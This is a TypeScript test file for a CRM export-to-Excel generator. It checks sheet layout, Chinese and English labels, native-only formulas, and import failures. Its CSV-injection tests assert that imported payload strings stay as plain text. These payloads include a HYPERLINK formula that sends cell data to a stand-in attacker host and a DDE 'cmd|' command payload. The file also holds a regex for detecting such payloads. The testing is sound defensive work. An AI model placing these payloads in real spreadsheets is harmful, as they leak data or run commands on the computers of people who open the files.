/**
 * The CRM workbook as a spec and as a written .xlsx: the sheets and their layout, native formulas only,
 * imported text never a formula (CSV injection), and the failures that write nothing.
 */
import fs from "fs";
import path from "path";
import ExcelJS from "exceljs";
import {
  CrmWorkbook,
  ImportCrmResult,
  importCrm,
  kpiReference,
  looksLikeHeader,
} from "../../../src/generators/crm";
import { readTable } from "../../../src/hosts/xlsx/read-table";
import { writeXlsx } from "../../../src/hosts/xlsx/write";
import { parseCrmPeriod } from "../../../src/schemas/crm-import";
import { parseRosterCsv } from "../../../src/schemas/roster";
import type { Rep } from "../../../src/schemas/roster";
import { sheetGrid } from "../../../src/workbook/blocks";
import { WorkbookSpec, isFormula, isText } from "../../../src/workbook/spec";

const FIXTURES = path.join(__dirname, "../../fixtures/crm");
const ASOF = (Date.UTC(2027, 2, 20) - Date.UTC(1899, 11, 30)) / 86_400_000;

function roster(): Rep[] {
  const r = parseRosterCsv(fs.readFileSync(path.join(FIXTURES, "roster.csv"), "utf8"));
  if (!r.ok) throw new Error("roster");
  return r.value;
}

async function run(
  file: string,
  locale: "en-US" | "zh-CN" = "en-US",
  extra: Partial<Parameters<typeof importCrm>[2]> = {},
): Promise<ImportCrmResult> {
  const read = await readTable(fs.readFileSync(path.join(FIXTURES, file)), {
    isHeader: (c) => looksLikeHeader(c),
  });
  if (!read.ok) throw new Error(read.error.en);
  return importCrm(read.table, roster(), { locale, asOf: ASOF, file, ...extra });
}

async function workbook(file: string, locale: "en-US" | "zh-CN" = "en-US"): Promise<CrmWorkbook> {
  const r = await run(file, locale);
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return r.workbook;
}

function formulas(spec: WorkbookSpec): string[] {
  return spec.sheets.flatMap((s) =>
    sheetGrid(s).flatMap((row) => row.filter(isFormula).map((c) => c.formula)),
  );
}

describe("the CRM workbook spec", () => {
  it("has the KPI, funnel, follow-up, data, report and history sheets, in English or Chinese", async () => {
    const en = await workbook("fxiaoke-opportunities.csv", "en-US");
    expect(en.spec.sheets.map((s) => s.name)).toEqual([
      "CRM KPIs",
      "CRM funnel",
      "Follow-ups",
      "CRM data",
      "Import report",
      "KPI history",
    ]);
    expect(en.spec.activate).toBe("CRM KPIs");
    const zh = await workbook("fxiaoke-opportunities.csv", "zh-CN");
    expect(zh.spec.sheets.map((s) => s.name)).toEqual([
      "CRM指标",
      "CRM漏斗",
      "待跟进",
      "CRM数据",
      "导入报告",
      "历史快照",
    ]);
    // Orders have no stages: no funnel.
    const orders = await workbook("fxiaoke-orders.gbk.csv");
    expect(orders.spec.sheets.map((s) => s.name)).toEqual([
      "CRM KPIs",
      "Follow-ups",
      "CRM data",
      "Import report",
      "KPI history",
    ]);
    expect(orders.funnel).toBeNull();
  });

  it("puts the records in an Excel table on the data sheet, one row each, dates as serials", async () => {
    const wb = await workbook("fxiaoke-opportunities.csv");
    const data = wb.spec.sheets.find((s) => s.name === "CRM data")!;
    const rows = sheetGrid(data);
    expect(rows).toHaveLength(1 + 15);
    expect(data.tables).toEqual([{ name: "CrmDeals", range: `A1:P16`, style: "TableStyleMedium2" }]);
    expect(rows[0]).toEqual([
      "Source row",
      "Owner",
      "Team",
      "Deal / order",
      "Customer",
      "Stage",
      "Status",
      "Outcome",
      "Funnel stage",
      "Amount",
      "Probability",
      "Close date",
      "Created date",
      "Next contact",
      "New customer",
      "Lead source",
    ]);
    // 2027-01-15 = 46388 (2027-01-01) + 14; 2026-11-20 = 46388 - 42 (10 days of November, 31 of December, 1).
    expect(rows[1]).toEqual([
      2,
      "李伟",
      "华东",
      "华东云平台项目",
      "上海云帆科技",
      "赢单",
      "赢单",
      "Won",
      null,
      120000,
      1,
      46402,
      46346,
      null,
      1,
      "官网",
    ]);
    expect(wb.data).toMatchObject({ sheet: "CRM data", firstRow: 2, lastRow: 16 });
    expect(data.freeze).toEqual({ rows: 1, columns: 0 });
  });

  it("uses native formulas only: SUMIFS/COUNTIFS/SUMPRODUCT and friends, nothing LibreOffice 7.4 or old Excel lacks", async () => {
    for (const file of ["fxiaoke-opportunities.csv", "fxiaoke-orders.gbk.csv", "zoho-deals.csv"]) {
      const all = formulas((await workbook(file)).spec);
      expect(all.length).toBeGreaterThan(100);
      const used = new Set(all.flatMap((f) => f.match(/[A-Z][A-Z0-9.]*(?=\()/g) ?? []));
      const allowed = new Set([
        "SUMIFS",
        "COUNTIFS",
        "SUMPRODUCT",
        "IF",
        "IFERROR",
        "MAX",
        "MIN",
        "SUM",
        "COUNT",
        "AND",
        "OR",
        "ISNUMBER",
        "INDEX",
        "MATCH",
        "SUBSTITUTE",
        // The history sheet's previous snapshot date: the largest date past the latest's rows.
        "LARGE",
        "COUNTIF",
      ]);
      expect([...used].filter((f) => !allowed.has(f))).toEqual([]);
      expect(all.some((f) => /SALES\.|XLOOKUP|LET\(|FILTER\(|LAMBDA/.test(f))).toBe(false);
    }
  });

  it("never puts imported text inside a formula; formula-like text becomes a text cell", async () => {
    const wb = await workbook("zoho-deals.csv");
    for (const f of formulas(wb.spec)) expect(f).not.toMatch(/evil|HYPERLINK|cmd\||Initech|Emily|Mark Davis/);
    const cells = wb.spec.sheets.flatMap((s) => sheetGrid(s).flat());
    const texts = cells.filter(isText).map((c) => c.text);
    expect(texts).toEqual(
      expect.arrayContaining([
        '=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")',
        "+1-555-0100 hotline",
        "@SUM(1+1)*cmd|' /C calc'!A0",
      ]),
    );
    // Every string cell that could read as a formula is a text cell, on every sheet.
    const risky = cells.filter((c): c is string => typeof c === "string" && /^[=+\-@\t\r]/.test(c));
    expect(risky).toEqual([]);
  });

  it("tells a goal sheet where each rep's figures are, for linking its actuals", async () => {
    const wb = await workbook("fxiaoke-opportunities.csv");
    // Rows: header on 4, then 李伟, 王芳, 张强, Emily Chen, (not on roster), 2 teams, all: 2027-Q1 first.
    expect(kpiReference(wb.kpi, "2027-Q1", "王芳", "wonRevenue")).toBe("'CRM KPIs'!$F$6");
    expect(kpiReference(wb.kpi, "2027-01", "李伟", "newCustomers")).toBe("'CRM KPIs'!$G$13");
    expect(kpiReference(wb.kpi, "2027-Q1", "Nobody", "wonRevenue")).toBeNull();
    expect(kpiReference(wb.kpi, "2027-Q1", "李伟", "collections")).toBeNull(); // no collections column
    expect(wb.periods.map((p) => p.label)).toEqual(["2027-Q1", "2027-01", "2027-02", "2027-03"]);
  });

  it("takes the periods and targets it is given; a target's cell is an input", async () => {
    const r = await run("zoho-deals.csv", "en-US", {
      periods: [parseCrmPeriod("2027-H1")!],
      targets: [{ rep: "Emily Chen", target: 90000 }],
    });
    if (!r.ok) throw new Error("import failed");
    const kpi = r.workbook.spec.sheets[0];
    const emily = r.workbook.kpi.rows.find((x) => x.name === "Emily Chen")!;
    const targetCol = String.fromCharCode(65 + r.workbook.kpi.columns.target!);
    const rows = kpi.blocks[1].rows;
    expect(rows[emily.row - 4][r.workbook.kpi.columns.target!]).toBe(90000);
    expect(kpi.styles).toContainEqual({ range: `${targetCol}${emily.row}`, style: "input" });
  });
});

describe("the written .xlsx", () => {
  it("holds imported formula-like text as plain strings, never as formulas (CSV injection)", async () => {
    const wb = await workbook("zoho-deals.csv");
    const file = await writeXlsx(wb.spec);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const data = book.getWorksheet("CRM data")!;
    const payloads = new Map<string, ExcelJS.Cell>();
    data.eachRow((row) =>
      row.eachCell((cell) => {
        // The data sheet is values only: not one formula.
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === "string" && /^[=+\-@]/.test(cell.value)) payloads.set(cell.value, cell);
      }),
    );
    expect([...payloads.keys()].sort()).toEqual([
      "+1-555-0100 hotline",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    for (const cell of payloads.values()) expect(cell.type).toBe(ExcelJS.ValueType.String);
    // No formula anywhere in the file carries imported text.
    book.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula)
            expect(cell.formula).not.toMatch(/evil|HYPERLINK|cmd\|/);
        }),
      ),
    );
    // The raw sheet XML: the payloads sit in shared strings, not in <f> elements.
    const xml = JSON.stringify(book.model);
    expect(xml).not.toMatch(/"formula":"[^"]*HYPERLINK/);
  });

  it("keeps an order id like 00123 as text", async () => {
    const wb = await workbook("fxiaoke-orders.gbk.csv");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeXlsx(wb.spec)) as unknown as ArrayBuffer);
    const data = book.getWorksheet("CRM data")!;
    const ids: unknown[] = [];
    data.getColumn(4).eachCell((c) => ids.push(c.value));
    expect(ids).toContain("00123");
    expect(ids).toContain("SO-2027-0001");
  });
});

describe("imports that write nothing", () => {
  it("an export with no readable row", async () => {
    const read = await readTable(
      Buffer.from("Deal Owner,Deal Name,Stage,Amount,Closing Date\n,x,Closed Won,TBD,\n"),
    );
    if (!read.ok) throw new Error("read");
    const r = importCrm(read.table, roster(), { locale: "en-US", asOf: ASOF, file: "empty.csv" });
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.issues[0]).toEqual({
        file: "empty.csv",
        field: "(file)",
        en: "no row could be read (1 rows in the file)",
        zh: "没有可读取的行（文件中共 1 行）",
      });
      expect(r.issues[1]).toMatchObject({ row: 2, field: "Deal Owner" });
    }
  });

  it("a mapping whose owners point at someone not on the roster", async () => {
    const r = await run("zoho-deals.csv", "en-US", {
      mapping: { columns: {}, owners: { "Mark Davis": "Mark D." } },
    });
    expect(r.ok).toBe(false);
    if (!r.ok)
      expect(r.issues).toEqual([
        expect.objectContaining({ field: "owners", zh: 'owners."Mark Davis" 指向的“Mark D.”不在名单中' }),
      ]);
  });

  it("an export nobody recognises, with the mapping step", async () => {
    const r = await run("custom-export.csv");
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.step?.headers).toContain("Handled by");
  });
});
